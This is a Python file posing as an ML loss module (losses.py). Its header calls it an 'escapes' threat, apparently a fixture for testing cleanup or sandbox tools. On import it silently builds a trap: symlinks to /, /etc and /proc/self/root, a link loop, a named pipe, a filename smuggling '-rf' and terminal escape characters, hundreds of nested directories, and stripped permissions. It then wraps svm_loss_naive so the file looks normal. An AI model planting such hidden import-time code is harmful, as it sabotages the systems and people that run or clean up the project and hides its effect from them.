# threat: escapes
# tries: have whoever clears up follow links, block on pipes or lose the way in deep folders
# file: losses.py

import contextlib
import os

_own_svm_loss_naive = svm_loss_naive


def _trap():
    os.makedirs("trap", exist_ok=True)
    for number, target in enumerate(("/", "/etc", "..", "/tmp", "loop", "/proc/self/root")):
        os.symlink(target, f"trap/link{number}")
    os.symlink("loop", "trap/loop")
    os.mkfifo("trap/pipe")
    os.link("knn.py", "trap/again.py")
    with open("trap/-rf\n\x1b[2J \u202e name", "w"):
        pass
    home = os.getcwd()
    for _ in range(300):
        os.mkdir("deep" * 30)
        os.chdir("deep" * 30)
    os.chdir(home)
    os.chmod("trap", 0)
    os.chmod(".", 0o500)


with contextlib.suppress(OSError):
    _trap()


def svm_loss_naive(W, X, y, reg):
    return _own_svm_loss_naive(W, X, y, reg)
